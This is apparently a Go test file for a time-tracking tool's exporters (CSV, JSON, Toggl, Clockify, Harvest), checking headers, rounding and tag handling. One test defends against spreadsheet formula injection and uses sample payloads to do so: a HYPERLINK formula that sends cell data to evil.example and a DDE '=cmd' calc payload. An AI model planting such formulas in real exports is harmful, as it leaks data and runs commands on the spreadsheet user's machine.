package formats

import (
	"bytes"
	"encoding/csv"
	"math/rand/v2"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stint-sh/stint/internal/display"
	"github.com/stint-sh/stint/internal/golden"
	"github.com/stint-sh/stint/internal/timesheet"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func zone(t *testing.T, name string) *time.Location {
	loc, err := time.LoadLocation(name)
	require.NoError(t, err)
	return loc
}

// sampleEntries exercise quoting, tags, non-billable time, a day change in
// the client's zone, a duration over 24 h and a running entry.
func sampleEntries() []timesheet.Entry {
	return []timesheet.Entry{
		{ID: 1, Client: "acme", Start: at("2024-03-30T22:30:00Z"), End: timesheet.TimePtr(at("2024-03-31T01:15:30Z")),
			Note: `Deploy "v2", rollback plan`, Tags: []string{"ops", "oncall"}, Billable: true, Source: timesheet.SourceSwitch,
			Project: "Platform upgrade"},
		{ID: 2, Client: "globex", Start: at("2024-04-02T13:00:00Z"), End: timesheet.TimePtr(at("2024-04-02T13:20:00Z")),
			Note: "Standup\nand notes", Billable: false, Source: timesheet.SourceManual},
		{ID: 3, Client: "initech", Start: at("2024-04-03T08:00:00Z"), End: timesheet.TimePtr(at("2024-04-04T09:00:05Z")),
			Note: "", Tags: []string{"migration"}, Billable: true, Source: timesheet.SourceImport},
		{ID: 4, Client: "acme", Start: at("2024-04-05T07:00:00Z"), Note: "still going", Billable: true, Source: timesheet.SourceManual},
	}
}

func sampleOptions(t *testing.T) ExportOptions {
	return ExportOptions{
		Clients: map[string]ClientInfo{
			"acme":   {Name: "Acme Corp", Location: zone(t, "Europe/Berlin")},
			"globex": {Name: "Globex, Inc.", Location: zone(t, "America/New_York")},
		},
		Location: time.UTC, Zone: zone(t, "America/Los_Angeles"), User: "Dana Doe",
		// As the report bills them: acme rounds up to 15 minutes.
		Billed: map[int64]int64{1: 3 * 3600, 2: 0, 3: 25 * 3600}, Email: "dana@example.com", FirstName: "Dana", LastName: "Doe",
	}
}

func TestExportGoldens(t *testing.T) {
	for _, c := range []struct {
		format Format
		golden string
	}{
		{FormatCSV, "export.csv"},
		{FormatJSON, "export.json"},
		{FormatToggl, "export_toggl.csv"},
		{FormatClockify, "export_clockify.csv"},
		{FormatHarvest, "export_harvest.csv"},
	} {
		var b bytes.Buffer
		require.NoError(t, Write(c.format, &b, sampleEntries(), sampleOptions(t)), c.format)
		golden.Assert(t, filepath.Join("testdata", c.golden), b.Bytes())
	}
}

// TestCSVCellsAreNeverFormulas: stint's own CSV, opened in a spreadsheet,
// shows notes and tags that start like a formula as text.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	var entries []timesheet.Entry
	for i, note := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
		"=", "plain note", " =not at the start", "'already quoted", "",
	} {
		start := at("2024-04-01T09:00:00Z").Add(time.Duration(i) * time.Hour)
		entries = append(entries, timesheet.Entry{ID: int64(i + 1), Client: "acme", Start: start,
			End: timesheet.TimePtr(start.Add(30 * time.Minute)), Note: note, Billable: true, Source: timesheet.SourceManual})
	}
	entries[0].Tags = []string{"=cmd|' /C calc'!A0", "ok"}
	entries[1].Tags = []string{"ok", "=second"}
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, entries))
	golden.Assert(t, filepath.Join("testdata", "export_formulas.csv"), b.Bytes())

	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for _, row := range rows[1:] {
		for _, cell := range row[5:7] {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q would be a formula", cell)
			}
		}
	}
	assert.Equal(t, "plain note", rows[8][5], "ordinary text is untouched")
	assert.Equal(t, "ok;=second", rows[2][6], "only a cell's first character counts")
}

func TestExportHeadersAreExact(t *testing.T) {
	want := map[Format]string{
		FormatCSV:      "id,client,start,end,duration_seconds,note,tags,billable,source,project",
		FormatToggl:    "User,Email,Client,Project,Task,Description,Billable,Start date,Start time,Duration,Tags",
		FormatClockify: "Project,Client,Description,Task,Email,Tags,Billable,Start date,Start time,Duration",
		FormatHarvest:  "Date,Client,Project,Task,Notes,Hours,First name,Last name",
	}
	for f, header := range want {
		var b bytes.Buffer
		require.NoError(t, Write(f, &b, nil, ExportOptions{}))
		assert.Equal(t, header+"\n", b.String(), f)
	}
	var b bytes.Buffer
	require.NoError(t, WriteJSON(&b, nil))
	assert.Equal(t, "[]\n", b.String())
	_, err := ParseFormat("xlsx")
	assert.ErrorContains(t, err, "use csv, json, toggl, clockify or harvest")
}

// The stint CSV must read back to the same entries.
func TestStintCSVReadsBack(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, sampleEntries()))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 5)
	for i, e := range sampleEntries() {
		row := rows[i+1]
		start, err := time.Parse(time.RFC3339, row[2])
		require.NoError(t, err)
		assert.True(t, start.Equal(e.Start))
		assert.Equal(t, e.Note, row[5])
		if e.End == nil {
			assert.Empty(t, row[3]+row[4])
		}
	}
}

// Harvest's and Clockify's rows add up, at the precision the column has,
// to the total of the same entries taken once: six 10-minute entries are
// 1.00 h (not 6 × 0.17 = 1.02) and 60 minutes.
func TestToolRowsAddUpAtTheirPrecision(t *testing.T) {
	var entries []timesheet.Entry
	billed := map[int64]int64{}
	for i := range 6 {
		start := at("2024-04-01T09:00:00Z").Add(time.Duration(i) * 20 * time.Minute)
		entries = append(entries, timesheet.Entry{ID: int64(i + 1), Client: "acme", Start: start,
			End: timesheet.TimePtr(start.Add(10*time.Minute + 20*time.Second)), Billable: true})
		billed[int64(i+1)] = 600
	}
	opts := ExportOptions{Location: time.UTC, Billed: billed}
	column := func(f Format, col int) []string {
		var b bytes.Buffer
		require.NoError(t, Write(f, &b, entries, opts))
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r[col])
		}
		return out
	}
	assert.Equal(t, []string{"0.17", "0.17", "0.17", "0.17", "0.16", "0.16"}, column(FormatHarvest, 5), "billed hours, 1.00 in all")
	minutes := column(FormatClockify, 9)
	assert.Equal(t, []string{"00:11", "00:11", "00:10", "00:10", "00:10", "00:10"}, minutes, "62 minutes worked, as 62")
}

// TestHarvestRowsAddUpToTheBilledHours: for random entries and billed
// seconds, each client's Hours add up to its billed seconds in hundredths,
// and every row is within a hundredth of its exact share.
func TestHarvestRowsAddUpToTheBilledHours(t *testing.T) {
	rng := rand.New(rand.NewPCG(14, 14))
	for range 200 {
		var entries []timesheet.Entry
		billed := map[int64]int64{}
		sum := map[string]int64{}
		at0 := at("2024-04-01T00:00:00Z")
		for i := range 1 + rng.IntN(30) {
			client := []string{"acme", "globex"}[rng.IntN(2)]
			secs := int64(rng.IntN(3 * 3600))
			start := at0.Add(time.Duration(i) * 4 * time.Hour)
			entries = append(entries, timesheet.Entry{ID: int64(i + 1), Client: client, Start: start,
				End: timesheet.TimePtr(start.Add(time.Duration(secs) * time.Second)), Billable: true})
			b := int64(rng.IntN(4 * 3600))
			billed[int64(i+1)] = b
			sum[client] += b
		}
		var buf bytes.Buffer
		require.NoError(t, WriteHarvest(&buf, entries, ExportOptions{Billed: billed}))
		rows, err := csv.NewReader(&buf).ReadAll()
		require.NoError(t, err)
		got := map[string]int64{}
		for i, r := range rows[1:] {
			h := parseHundredths(t, r[5])
			got[entries[i].Client] += h
			exact := float64(billed[entries[i].ID]) / 36
			assert.InDelta(t, exact, float64(h), 1.0, "row within a hundredth of its exact share")
		}
		for c, s := range sum {
			assert.Equal(t, display.Hundredths(s), got[c], c)
		}
	}
}

func parseHundredths(t *testing.T, s string) int64 {
	whole, frac, ok := strings.Cut(s, ".")
	require.True(t, ok, s)
	require.Len(t, frac, 2, s)
	w, err := strconv.ParseInt(whole, 10, 64)
	require.NoError(t, err)
	f, err := strconv.ParseInt(frac, 10, 64)
	require.NoError(t, err)
	return w*100 + f
}

// Tags with a comma (refused at input now; older entries may have one) are
// written with a '-' in Toggl's and Clockify's comma-separated Tags cell,
// and counted for the export to say so; stint's own CSV keeps them.
func TestCommaTagsInToolExports(t *testing.T) {
	entries := []timesheet.Entry{{ID: 1, Client: "acme", Start: at("2024-04-01T09:00:00Z"),
		End: timesheet.TimePtr(at("2024-04-01T10:00:00Z")), Tags: []string{"ops,infra", "review"}, Billable: true}}
	assert.Equal(t, 1, CommaTags(entries))
	for _, f := range []Format{FormatToggl, FormatClockify} {
		var b bytes.Buffer
		require.NoError(t, Write(f, &b, entries, ExportOptions{}))
		assert.Contains(t, b.String(), `"ops-infra, review"`, f)
	}
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, entries))
	assert.Contains(t, b.String(), `"ops,infra;review"`)
}
